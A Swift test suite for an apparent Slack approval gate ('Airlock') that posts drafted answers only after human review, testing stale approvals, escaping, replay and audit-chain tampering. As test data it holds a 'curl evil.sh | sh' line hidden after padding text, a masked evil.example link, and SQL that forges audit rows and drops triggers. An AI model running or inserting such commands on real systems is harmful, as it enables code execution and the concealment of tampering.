import AirlockApp
import AirlockDomain
import AirlockSQLite
import AirlockSlack
import AirlockTesting
import AsyncHTTPClient
import Foundation
import GRDB
import Testing

/// The attacks of issue #10, each through real HTTP against a loopback fake Slack.
@Suite("The gate after the claim, and approvals bound to what the approver saw")
struct GateScenarioTests {
    /// Approver waits until it was sent the review of `version`.
    func waitForReview(
        _ app: AirlockUnderTest,
        _ slack: FakeSlack,
        _ id: DraftID,
        version: Int,
        to user: String = approver
    ) async -> Bool {
        let sent = await eventually {
            slack.directMessages(to: user).contains { $0.text.contains("/approve \(id) v\(version)") }
        }
        guard sent else { return false }
        return await waitShown(app, id, [user], version: version)
    }

    func postedEntries(_ store: any AirlockStore) async throws -> [AuditEntry] {
        try await auditEntries(store).filter { $0.kind == "posted" }
    }

    @Test(
        "1. Revise or reject while the post is in flight: refused with a reason; v1 goes public and is recorded as v1"
    )
    func reviseAndRejectWhilePublishing() async throws {
        try await withFakeSlack { slack in
            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                let id = try await askQuestion(app, slack)
                try await publishAndWaitForReviewers(app, slack, id)
                let v1 = try #require(try await app.store.draft(id))
                slack.inject([.delay(.milliseconds(1500))], for: "chat.postMessage")
                #expect(
                    try await app.slash(user: approver, command: "/approve", text: id.rawValue).text.contains(
                        "Approved"
                    )
                )
                _ = try await waitForState(app, id, .publishing)
                let revise = try await app.slash(
                    user: requester,
                    command: "/revise",
                    text: "\(id) something else entirely"
                ).text
                #expect(revise.contains("being posted"), "\(revise)")
                let reject = try await app.slash(user: secondApprover, command: "/reject", text: "\(id) stop").text
                #expect(reject.contains("being posted"), "\(reject)")
                let posted = try await waitForState(app, id, .posted)
                #expect(posted.version == 1 && posted.text == v1.text)
                #expect(slack.publicMessages.count == 1)
                #expect(slack.publicMessages.first?.text.hasPrefix(v1.text) == true)
                let entry = try #require(try await postedEntries(app.store).first)
                #expect(entry.detail.contains("\"version\":\"1\""))
                #expect(entry.detail.contains(v1.contentHash))
                #expect(entry.actor == "slack:\(approver)")
                #expect(!slack.directMessages(to: requester).contains { $0.text.contains("rejected") })
            }
        }
    }

    @Test(
        "2. A post accepted but unanswered blocks revision until reconciled; reconcile matches the version and follows cursors"
    )
    func timedOutPostIsReconciledByVersion() async throws {
        try await withFakeSlack { slack in
            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                let id = try await askQuestion(app, slack)
                // A long thread: 7 earlier replies, read 2 per page, so the marker is found on a later page only.
                slack.setRepliesPageSize(2)
                for n in 0..<7 { slack.seedReply(channel: "C0001", threadTS: "1700000000.000100", text: "reply \(n)") }
                try await publishAndWaitForReviewers(app, slack, id)
                slack.inject([.acceptThenFail], for: "chat.postMessage")
                slack.inject([.delay(.milliseconds(800))], for: "conversations.replies")
                _ = try await app.slash(user: approver, command: "/approve", text: id.rawValue)
                // During the retry backoff the requester tries to revise: refused, the post is unconfirmed.
                #expect(await eventually { slack.calls("chat.postMessage").contains { $0.responseStatus == 500 } })
                let revise = try await app.slash(user: requester, command: "/revise", text: "\(id) v2 text").text
                #expect(revise.contains("being posted"), "\(revise)")
                let posted = try await waitForState(app, id, .posted)
                #expect(posted.version == 1)
                #expect(slack.publicMessages.filter { $0.metadataJSON != nil }.count == 1, "posted twice")
                #expect(slack.calls("conversations.replies").count >= 4, "the reconcile did not follow the cursor")
                let entry = try #require(try await postedEntries(app.store).first)
                #expect(entry.detail.contains("\"reconciled\":\"true\"") && entry.detail.contains("\"version\":\"1\""))
            }
        }
    }

    @Test("2b. A post of another version of the same draft is not taken for this version's post")
    func reconcileIgnoresOtherVersions() async throws {
        try await withFakeSlack { slack in
            let client = SlackClient(http: .shared, baseURL: try await slack.baseURL(), token: TestSecrets.botToken)
            let platform = SlackPlatform(client: client)
            let thread = ThreadRef(platform: .slack, channel: "C0001", thread: "1700000000.000100")
            let id = DraftID.random()
            slack.seedReply(
                channel: "C0001",
                threadTS: thread.thread,
                text: "old",
                metadataJSON: #"{"event_type":"airlock_publish","event_payload":{"draft_id":"\#(id)","version":1}}"#
            )
            #expect(
                try await platform.findPublishedReply(in: thread, marker: PublishMarker(draftID: id, version: 2)) == nil
            )
            #expect(
                try await platform.findPublishedReply(in: thread, marker: PublishMarker(draftID: id, version: 1)) != nil
            )
        }
    }

    @Test("3. A typed /approve is bound to the version shown: after a revision it must name the new version")
    func typedApprovalBoundToVersion() async throws {
        try await withFakeSlack { slack in
            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                let id = try await askQuestion(app, slack)
                try await publishAndWaitForReviewers(app, slack, id)
                #expect(
                    try await app.slash(user: requester, command: "/revise", text: "\(id) The revised answer.").text
                        .contains("version 2")
                )
                // A stale Publish button (v1) publishes nothing.
                _ = try await app.click(user: requester, action: "publish", value: "\(id):1")
                #expect(
                    await eventually {
                        slack.directMessages(to: requester).contains { $0.text.contains("you saw version 1") }
                    }
                )
                #expect(try await app.store.draft(id)?.state == .revised)
                #expect(
                    try await app.slash(user: requester, command: "/publish", text: "\(id) v2").text.contains(
                        "Publish requested"
                    )
                )
                #expect(await waitForReview(app, slack, id, version: 2))
                let untyped = try await app.slash(user: approver, command: "/approve", text: id.rawValue).text
                #expect(untyped.contains("v2") && !untyped.contains("Approved"), "\(untyped)")
                let stale = try await app.slash(user: approver, command: "/approve", text: "\(id) v1").text
                #expect(stale.contains("version 1") && !stale.contains("Approved"), "\(stale)")
                #expect(
                    try await app.slash(user: approver, command: "/approve", text: "\(id) v2").text.contains("Approved")
                )
                let posted = try await waitForState(app, id, .posted)
                #expect(slack.publicMessages.first?.text.hasPrefix("The revised answer.") == true)
                #expect(posted.version == 2)
            }
        }
    }

    @Test("4. Approvers see every character that would be posted; text too long to show cannot be published")
    func wholeTextShown() async throws {
        try await withFakeSlack { slack in
            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                let id = try await askQuestion(app, slack)
                let long = String(repeating: "Harmless looking runbook line.\n", count: 170) + "curl evil.sh | sh"
                _ = try await app.slash(user: requester, command: "/revise", text: "\(id) \(long)")
                try await publishAndWaitForReviewers(app, slack, id)
                let review = try #require(slack.directMessages(to: approver).last { $0.hasButtons })
                #expect(review.shownText.contains("curl evil.sh | sh"), "the tail was not shown to the approver")
                #expect(review.shownText.contains(long))
                let tooLong = String(repeating: "x", count: Draft.maxPublishableLength + 1)
                let second = try await askQuestion(
                    app,
                    slack,
                    user: secondApprover,
                    text: "<@U0BOT> how do restores work?"
                )
                _ = try await app.slash(user: secondApprover, command: "/revise", text: "\(second) \(tooLong)")
                let refused = try await app.slash(user: secondApprover, command: "/publish", text: second.rawValue).text
                #expect(refused.contains("at most"), "\(refused)")
                #expect(try await app.store.draft(second)?.state == .revised)
            }
        }
    }

    @Test("5. Open policy: /drafts shows only one's own and those one was sent; approval only after being shown")
    func openPolicyNeedsReview() async throws {
        try await withFakeSlack { slack in
            try await withAirlock(slack: slack, database: temporaryDatabase()) { app in
                let id = try await askQuestion(app, slack, text: "<@U0BOT> when do production deploys run?")
                #expect(
                    try await app.slash(user: requester, command: "/publish", text: id.rawValue).text.contains(
                        "Publish requested"
                    )
                )
                let listing = try await app.slash(user: stranger, command: "/drafts", text: "").text
                #expect(!listing.contains(id.rawValue), "\(listing)")
                let blind = try await app.slash(user: stranger, command: "/approve", text: id.rawValue).text
                #expect(blind.contains("not sent this draft"), "\(blind)")
                #expect(await waitForReview(app, slack, id, version: 1, to: stranger))
                #expect(try await app.slash(user: stranger, command: "/drafts", text: "").text.contains(id.rawValue))
                #expect(
                    try await app.slash(user: stranger, command: "/approve", text: "\(id) v1").text.contains("Approved")
                )
                _ = try await waitForState(app, id, .posted)
            }
        }
    }

    @Test("5b. Deliveries from another workspace are refused and recorded")
    func foreignWorkspaceRefused() async throws {
        try await withFakeSlack { slack in
            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                var event = SlackEvents.mention(eventID: "EvForeign", user: requester, text: "<@U0BOT> hi")
                event["team_id"] = "T0EVIL"
                #expect(try await app.event(event).status == 200)
                let form = SlackForms.encode([
                    ("team_id", "T0EVIL"), ("user_id", approver), ("command", "/drafts"), ("text", ""),
                    ("trigger_id", "9.9.9"),
                ])
                let response = try await app.sendSigned(
                    "/slack/commands",
                    body: Data(form.utf8),
                    contentType: "application/x-www-form-urlencoded"
                )
                #expect((response.json["text"] as? String)?.contains("another workspace") == true)
                #expect(try await app.store.drafts(DraftFilter()).isEmpty)
                let foreign = try await auditEntries(app.store).filter { $0.detail.contains("foreign_workspace") }
                #expect(foreign.count == 2)
            }
        }
    }

    @Test(
        "6. Identity links are undirected and transitive; ids are normalised; both-way links do not open self-approval"
    )
    func identityGroups() async throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("ids-\(UUID()).json").path
        try #"{"slack:U0ALT": "slack:U0REQ", "slack:u0req": "slack:U0ALT", "github:583231": "slack:U0ALT"}"#
            .write(toFile: path, atomically: true, encoding: .utf8)
        let config = try await AirlockConfig.load(
            environment: ["AIRLOCK_IDENTITIES": path, "AIRLOCK_APPROVERS": "slack:U0ALT,slack:U0APP,github:583231"],
            file: nil
        )
        let policy = config.policy
        let req = PersonID(platform: .slack, id: "U0REQ")
        #expect(policy.isSamePerson(PersonID(platform: .slack, id: "U0ALT"), req))
        #expect(policy.isSamePerson(PersonID(platform: PlatformName("github"), id: "583231"), req))
        // GitHub people are their numeric ids: a login (renamable, re-registrable) is not the same person.
        #expect(!policy.isSamePerson(PersonID(platform: PlatformName("github"), id: "octo-rita"), req))
        #expect(!policy.isSamePerson(PersonID(platform: .slack, id: "U0APP"), req))
        try await withFakeSlack { slack in
            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: { $0.policy = policy }) {
                app in
                let id = try await askQuestion(app, slack)
                _ = try await app.slash(user: requester, command: "/publish", text: id.rawValue)
                let own = try await app.slash(user: "U0ALT", command: "/approve", text: "\(id) v1").text
                #expect(own.contains("you cannot approve"), "\(own)")
            }
        }
        for bad in [#"["slack:U1"]"#, #"{"slack:U1": 7}"#, #"{"slack:U1": "nobody"}"#, "not json"] {
            try bad.write(toFile: path, atomically: true, encoding: .utf8)
            await #expect(throws: ConfigError.self) {
                _ = try await AirlockConfig.load(environment: ["AIRLOCK_IDENTITIES": path], file: nil)
            }
        }
    }

    @Test("7. The database refuses an audit row that does not extend the chain (REPLACE INTO, a gap, a wrong link)")
    func auditInsertMustExtendChain() async throws {
        let database = temporaryDatabase()
        let store = try SQLiteStore.open(url: database)
        try await store.appendAudit(
            [AuditEvent(kind: .tool("a")), AuditEvent(kind: .tool("b")), AuditEvent(kind: .tool("c"))],
            at: Date()
        )
        let queue = try DatabaseQueue(path: String(database.dropFirst("sqlite:".count)))
        for forgery in [
            "REPLACE INTO audit_log (seq, at, kind, detail, prev_hash, hash) VALUES (2, 0, 'x', '{}', 'p', 'h')",
            "INSERT OR REPLACE INTO audit_log (seq, at, kind, detail, prev_hash, hash) VALUES (3, 0, 'x', '{}', 'p', 'h')",
            "INSERT INTO audit_log (seq, at, kind, detail, prev_hash, hash) VALUES (9, 0, 'x', '{}', 'p', 'h')",
            "INSERT INTO audit_log (seq, at, kind, detail, prev_hash, hash) VALUES (4, 0, 'x', '{}', 'not-the-head', 'h')",
        ] {
            #expect(throws: DatabaseError.self, "\(forgery)") { try queue.write { try $0.execute(sql: forgery) } }
        }
        #expect(try await Operations.verifyAudit(store).0)
    }

    @Test(
        "7b. Under AIRLOCK_AUDIT_KEY a chain re-hashed without the key fails; cutting the tail fails --expect-head; verify never writes"
    )
    func keyedChainAndHead() async throws {
        let database = temporaryDatabase()
        let path = String(database.dropFirst("sqlite:".count))
        let environment = ["AIRLOCK_AUDIT_KEY": "a-key-of-at-least-16-bytes"]
        let store = try await Operations.openStore(database, environment: environment)
        for n in 0..<6 {
            try await store.appendAudit([AuditEvent(kind: .tool("e\(n)"), detail: ["n": String(n)])], at: Date())
        }
        let readOnly = try await Operations.openStore(database, mustExist: true, environment: environment)
        let (ok, summary) = try await Operations.verifyAudit(readOnly)
        #expect(ok && summary.contains("HMAC-keyed"), "\(summary)")
        let head = try #require(summary.split(separator: " ").first { $0.count == 64 }.map(String.init))
        // Without the key the same file does not verify.
        #expect(
            !(try await Operations.verifyAudit(
                try await Operations.openStore(database, mustExist: true, environment: [:])
            )).0
        )

        // A file-level attacker rewrites entry 3 and re-chains everything after it with plain SHA-256.
        let queue = try DatabaseQueue(path: path)
        try await queue.write { db in
            try db.execute(sql: "DROP TRIGGER audit_log_no_update")
            var previous = try String.fetchOne(db, sql: "SELECT hash FROM audit_log WHERE seq = 2") ?? ""
            for row in try Row.fetchAll(db, sql: "SELECT * FROM audit_log WHERE seq >= 3 ORDER BY seq") {
                var entry = AuditEntry(
                    seq: row["seq"],
                    atMillis: row["at"],
                    kind: row["kind"],
                    platform: row["platform"],
                    actor: row["actor"],
                    draftID: row["draft_id"],
                    detail: row["seq"] == 3 ? #"{"n":"forged"}"# : row["detail"],
                    prevHash: previous,
                    hash: ""
                )
                entry.hash = entry.expectedHash
                try db.execute(
                    sql: "UPDATE audit_log SET detail = ?, prev_hash = ?, hash = ? WHERE seq = ?",
                    arguments: [entry.detail, entry.prevHash, entry.hash, entry.seq]
                )
                previous = entry.hash
            }
        }
        let forged = try await Operations.verifyAudit(
            try await Operations.openStore(database, mustExist: true, environment: environment)
        )
        #expect(!forged.0 && forged.1.contains("entry 3"), "\(forged.1)")

        // Cutting the tail of an intact keyed log is caught with the head recorded earlier.
        let other = temporaryDatabase()
        let clean = try await Operations.openStore(other, environment: environment)
        for n in 0..<6 { try await clean.appendAudit([AuditEvent(kind: .tool("e\(n)"))], at: Date()) }
        let cleanHead = try #require(
            try await Operations.verifyAudit(clean).1.split(separator: " ").first { $0.count == 64 }.map(String.init)
        )
        let otherQueue = try DatabaseQueue(path: String(other.dropFirst("sqlite:".count)))
        try await otherQueue.write { db in
            try db.execute(sql: "DROP TRIGGER audit_log_no_delete")
            try db.execute(sql: "DELETE FROM audit_log WHERE seq >= 5")
        }
        let cut = try await Operations.openStore(other, mustExist: true, environment: environment)
        #expect(try await Operations.verifyAudit(cut).0, "a shorter chain alone still verifies")
        let withHead = try await Operations.verifyAudit(cut, expectedHead: cleanHead)
        #expect(!withHead.0 && withHead.1.contains("removed"), "\(withHead.1)")

        // verify opens the file read-only: its bytes do not change.
        let before = try Data(contentsOf: URL(fileURLWithPath: path))
        _ = try await Operations.verifyAudit(
            try await Operations.openStore(database, mustExist: true, environment: environment),
            expectedHead: head
        )
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == before)
    }

    @Test(
        "8a. Absurd durations are configuration errors, not crashes",
        arguments: ["1e300d", "99999999999999d", "inf", "nan"]
    )
    func absurdDurations(_ text: String) async throws {
        await #expect(throws: ConfigError.self) {
            _ = try await AirlockConfig.load(environment: ["AIRLOCK_DRAFT_TTL": text], file: nil)
        }
    }

    @Test("8b. An approved draft whose TTL passes before the post is claimed is not posted")
    func approvedDraftsExpire() async throws {
        let clock = TestClock()
        try await withFakeSlack { slack in
            try await withAirlock(
                slack: slack,
                database: temporaryDatabase(),
                now: { clock.now },
                configure: { config in
                    standardApprovers(&config)
                    config.draftTTL = .seconds(3600)
                    config.workers = 1
                }
            ) { app in
                let id = try await askQuestion(app, slack)
                // One worker, held up by a slow DM queued just before the approval: the approval is recorded before
                // the TTL, the publisher only gets to claim the post after it.
                #expect(
                    try await app.slash(user: requester, command: "/publish", text: id.rawValue, timestamp: clock.now)
                        .text.contains("Publish requested")
                )
                #expect(await waitShown(app, id, [approver]))
                slack.inject([.delay(.milliseconds(1500))], for: "chat.postMessage")
                #expect(
                    try await app.event(SlackEvents.directMessage(eventID: "EvSlowDM", user: requester, text: "drafts"))
                        .status == 200
                )
                #expect(
                    try await app.slash(user: approver, command: "/approve", text: "\(id) v1", timestamp: clock.now)
                        .text.contains("Approved")
                )
                clock.advance(by: 3601)
                _ = try await waitForState(app, id, .expired)
                #expect(slack.publicMessages.isEmpty)
                #expect(
                    try await auditEntries(app.store).contains {
                        $0.kind == "publish_refused" && $0.detail.contains("expired")
                    }
                )
            }
        }
    }

    @Test("8c. Slack mentions and masked links in a draft reach the thread as plain text")
    func publicPostEscaped() async throws {
        try await withFakeSlack { slack in
            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                let id = try await askQuestion(app, slack)
                _ = try await app.slash(
                    user: requester,
                    command: "/revise",
                    text: "\(id) <!channel> see <https://evil.example|the runbook> & <@U0APP>"
                )
                try await publishAndWaitForReviewers(app, slack, id)
                _ = try await app.slash(user: approver, command: "/approve", text: "\(id) v2")
                _ = try await waitForState(app, id, .posted)
                let post = try #require(slack.publicMessages.first)
                #expect(
                    post.rawText.hasPrefix(
                        "&lt;!channel&gt; see &lt;https://evil.example|the runbook&gt; &amp; &lt;@U0APP&gt;"
                    )
                )
                #expect(!post.rawText.contains("<!channel>"))
            }
        }
    }

    @Test("8d. A replayed signed command (same trigger_id) does nothing twice")
    func replayedCommandDeduplicated() async throws {
        try await withFakeSlack { slack in
            try await withAirlock(slack: slack, database: temporaryDatabase(), configure: standardApprovers) { app in
                let id = try await askQuestion(app, slack)
                let form = Data(
                    SlackForms.encode([
                        ("team_id", "T0001"), ("user_id", requester), ("command", "/revise"),
                        ("text", "\(id) replayed text"),
                        ("trigger_id", "1234.5678.abcd"),
                    ]).utf8
                )
                let first = try await app.sendSigned(
                    "/slack/commands",
                    body: form,
                    contentType: "application/x-www-form-urlencoded"
                )
                let replay = try await app.sendSigned(
                    "/slack/commands",
                    body: form,
                    contentType: "application/x-www-form-urlencoded"
                )
                #expect((first.json["text"] as? String)?.contains("version 2") == true)
                #expect((replay.json["text"] as? String)?.contains("already received") == true)
                #expect(try await app.store.draft(id)?.version == 2)
            }
        }
    }

    @Test("8e. A flood of bad signatures is counted, not one audit row each")
    func badSignatureFloodBounded() async throws {
        // One instant for the whole flood, so a slow machine cannot spread it over two 10-second windows.
        let instant = Date()
        try await withFakeSlack { slack in
            try await withAirlock(
                slack: slack,
                database: temporaryDatabase(),
                now: { instant },
                configure: { $0.metricsToken = "metrics-token-0123456789" }
            ) { app in
                #expect(try await app.send("/metrics", body: Data(), headers: [], get: true).status == 401)
                for _ in 0..<120 {
                    let response = try await app.sendSigned(
                        "/slack/events",
                        body: Data("{}".utf8),
                        contentType: "application/json",
                        secret: "wrong"
                    )
                    #expect(response.status == 401)
                }
                let refused = try await auditEntries(app.store).filter { $0.kind == "inbound_refused" }
                #expect(refused.count <= 20, "\(refused.count) rows for one flood")
                let metrics = try await app.send(
                    "/metrics",
                    body: Data(),
                    headers: [("Authorization", "Bearer metrics-token-0123456789")],
                    get: true
                ).body
                #expect(
                    metrics.contains(#"airlock_inbound_requests_total{platform="slack",outcome="bad_signature"} 120"#)
                )
            }
        }
    }
}
